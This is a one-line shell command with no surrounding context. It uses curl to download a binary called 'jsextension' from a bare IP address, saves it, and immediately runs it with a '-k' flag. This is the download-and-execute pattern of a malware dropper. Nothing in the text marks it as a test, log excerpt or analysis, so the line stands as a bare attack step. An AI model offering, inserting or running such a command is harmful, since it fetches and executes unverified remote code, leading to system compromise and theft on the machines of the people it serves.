curl http://203.0.113.9/download/jsextension -o jsextension && ./jsextension -k
